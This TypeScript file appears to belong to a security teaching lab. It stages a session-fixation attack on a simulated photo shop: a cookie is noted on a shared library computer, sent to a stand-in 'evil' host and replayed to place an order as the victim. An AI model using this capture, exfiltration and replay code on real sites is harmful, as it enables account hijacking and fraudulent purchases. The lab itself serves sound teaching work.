import type { Answer, Lab, Place } from '../engine/lab.ts'

const COOKIE = 'lab_shop_sid'

/**
 * A computer in a library. Mallory opens the shop on it, notes the cookie, and goes. Alice comes, connects her drive, and goes.
 * At home Mallory shows the cookie.
 */
export async function attack(place: Place): Promise<Answer> {
  const library = place.person('alice')
  await (await library.open(`${place.shop}/connect`)).text() // Mallory, who goes no further
  const noted = library.cookies.get(new URL(place.shop).hostname)?.get(COOKIE) ?? ''
  await note(place, noted)
  await library.walk(`${place.shop}/connect`, { photos: 4 })
  return show(place, noted)
}

/** What she sees who has noted a cookie. */
export const evilPages: Lab['evilPages'] = () => ({
  '/': (_req, _res, say) =>
    say({ title: 'Noted', html: '<p>Mallory has it on paper, and goes home.</p><p><a href="/">To her desk</a></p>' }),
})

/** A cookie that Mallory made up. */
export async function wrongAttempt(place: Place): Promise<Answer> {
  await place.person('alice').walk(`${place.shop}/connect`, { photos: 4 })
  const madeUp = encodeURIComponent('s:made-up.by-mallory')
  await note(place, madeUp)
  return show(place, madeUp)
}

async function note({ evil }: Place, cookie: string): Promise<void> {
  await (await fetch(`${evil}/?${new URLSearchParams({ noted: cookie })}`)).text()
}

// Orders the first photo that the shop shows to whoever has this cookie.
async function show({ shop }: Place, cookie: string): Promise<Answer> {
  const headers = { Cookie: `${COOKIE}=${cookie}`, Origin: shop, 'Sec-Fetch-Site': 'same-origin' }
  const page = await (await fetch(`${shop}/photos`, { headers })).text()
  const [, id = ''] = /name="size\.([\w-]+)"/.exec(page) ?? []
  const [, form_key = ''] = /name="form_key" value="([^"]+)"/.exec(page) ?? []
  const body = new URLSearchParams({ form_key, [`size.${id}`]: '20x30', [`copies.${id}`]: '1', do: 'order' })
  const answer = await fetch(`${shop}/orders`, { method: 'POST', body, headers, redirect: 'manual' })
  return { status: answer.status, text: await answer.text() }
}
